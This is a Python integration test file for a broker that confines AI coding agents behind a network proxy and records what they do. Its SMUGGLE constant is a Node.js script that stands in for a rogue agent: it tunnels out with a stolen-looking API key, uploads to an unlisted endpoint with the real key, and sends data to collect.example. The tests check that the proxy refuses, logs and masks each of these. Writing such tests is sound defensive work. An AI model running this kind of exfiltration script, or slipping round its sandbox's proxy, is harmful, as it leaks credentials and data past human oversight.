"""What a confined agent does past its tools leaves a trace: requests that the proxy refused, and tools that it says it used by itself."""

import json
import shlex
from collections.abc import Callable

import pytest

from tests.integration.brokered.conftest import Brokered, brokered, configuration, docker_engine, short_path
from tests.security.test_brokered import ROGUE
from tests.support.covers import covers
from tests.support.program import tmux

__all__ = ["brokered", "docker_engine", "short_path", "tmux"]

FOREIGN = "sk-ant-api03-" + "stolen0123456789" * 5
SMUGGLE = """
const net = require('net'), tls = require('tls'), fs = require('fs'), host = 'api.anthropic.com';
const ask = (line, key, then) => {
  const way = net.connect(18080, '127.0.0.1', () => way.write(`CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`));
  way.once('data', () => {
    const safe = tls.connect({socket: way, servername: host, ca: fs.readFileSync('/etc/curtainwall/ca.pem')}, () => safe.write(
      `${line} HTTP/1.1\\r\\nhost: ${host}\\r\\nx-api-key: ${key}\\r\\ncontent-type: application/json\\r\\n` +
      `connection: close\\r\\ncontent-length: 17\\r\\n\\r\\n{"body":"body77"}`));
    safe.on('data', () => 0);
    safe.on('close', then);
  });
};
const plain = then => {
  const line = 'GET http://collect.example/drop?d=query77 HTTP/1.1';
  const way = net.connect(18080, '127.0.0.1', () => way.write(`${line}\\r\\nhost: x\\r\\n\\r\\n`));
  way.on('data', () => 0);
  way.on('close', then);
};
setTimeout(() => process.exit(1), 30000);
ask('POST /v1/messages', 'FOREIGN', () =>
  ask('POST /v1/files?name=query77', process.env.ANTHROPIC_API_KEY, () => plain(() => process.exit(0))));
""".replace("FOREIGN", FOREIGN)


@covers("brokered.refusals-recorded")
def test_a_foreign_key_an_unlisted_endpoint_and_a_plain_url_are_in_the_log_the_audit_and_on_the_screen(brokered: Brokered) -> None:
    brokered.configure(configuration(brokered.provider, ROGUE))
    script = f"node -e {shlex.quote(SMUGGLE)} </dev/null; echo done"
    told = brokered("start", "--agent", "rogue", "--output", "json", script)
    session = json.loads(told.stdout)["session"]
    refused = [request for event in brokered.told(session, "RequestsRefused") for request in event["requests"]]
    found = {(request["kind"], request["method"], request["host"], request["path"], request["count"]) for request in refused}
    assert found == {
        ("key", "POST", "api.anthropic.com", "/v1/messages", 1),
        ("endpoint", "POST", "api.anthropic.com", "/v1/files", 1),
        ("host", "GET", "collect.example", "/drop", 1),
    }
    masks = {request["key"] for request in refused} - {""}
    assert all(mask.startswith("[masked:") for mask in masks)
    assert len(masks) == 1
    assert {event["turn"] for event in brokered.told(session, "RequestsRefused")} == {
        event["turn"] for event in brokered.told(session, "TurnStarted")
    }
    text = (brokered.home / "sessions" / session / "audit.jsonl").read_text()
    audit = [json.loads(line) for line in text.splitlines()]
    assert sum(len(line["refused"]) for line in audit if line["type"] == "RequestsRefused") == 3
    assert "✗ the network proxy refused POST api.anthropic.com/v1/files" in told.stderr
    assert not [word for word in (FOREIGN, "query77", "body77") if word in f"{json.dumps(refused)}{text}{told.stderr}"]
    assert f"with key {masks.pop()}" in told.stderr
    assert "3 requests by the network proxy" in brokered("sessions", "show", session).stdout
    assert brokered.json("audit", "verify")["ok"] is True
    assert brokered("sessions", "replay", session).returncode == 0
    assert not brokered.provider.asked


CALLS = {
    "claude-code": ("Bash", {"command": "echo PASSWORD=hunter2hunter2 >/tmp/x; ls -A /tmp/x", "description": "tidy up"}, "Bash"),
    "codex": ("exec_command", {"cmd": "echo PASSWORD=hunter2hunter2 >/tmp/x; ls -A /tmp/x"}, "shell"),
    "opencode": ("bash", {"command": "echo PASSWORD=hunter2hunter2 >/tmp/x; ls -A /tmp/x", "description": "tidy up"}, "bash"),
    "gemini": ("run_shell_command", {"command": "echo PASSWORD=hunter2hunter2 >/tmp/x; ls -A /tmp/x"}, "run_shell_command"),
}


@pytest.mark.parametrize("agent", CALLS)
@covers("brokered.own-tools-reported")
def test_what_an_agent_says_of_its_own_tools_is_recorded_as_its_own_account(
    agent: str, brokered: Brokered, real_part: Callable[[str], str]
) -> None:
    real_part(agent)
    tool, arguments, shown = CALLS[agent]
    told = brokered("start", "--agent", agent, "--output", "json", f"word=apple CALL {tool} {json.dumps(arguments)}")
    session = json.loads(told.stdout)["session"]
    assert not brokered.told(session, "RequestsRefused"), "an ordinary turn is refused nothing"
    (use,) = [use for event in brokered.told(session, "ToolUsesReported") for use in event["uses"]]
    assert use["tool"] == shown
    assert "ls -A /tmp/x" in use["arguments"]
    assert "hunter2hunter2" not in use["arguments"]
    assert f"· the agent says it used its own tools: {shown} " in told.stderr
    audit = map(json.loads, (brokered.home / "sessions" / session / "audit.jsonl").read_text().splitlines())
    assert [line["by_its_own_account"] for line in audit if line["type"] == "ToolUsesReported"] == [[use]]
    assert {call["subject"]["tool"] for call in brokered.told(session, "CallRequested")} <= {"egress.connect"}, "the gate has not seen it"
    assert "1 use, by the agent's own account" in brokered("sessions", "show", session).stdout
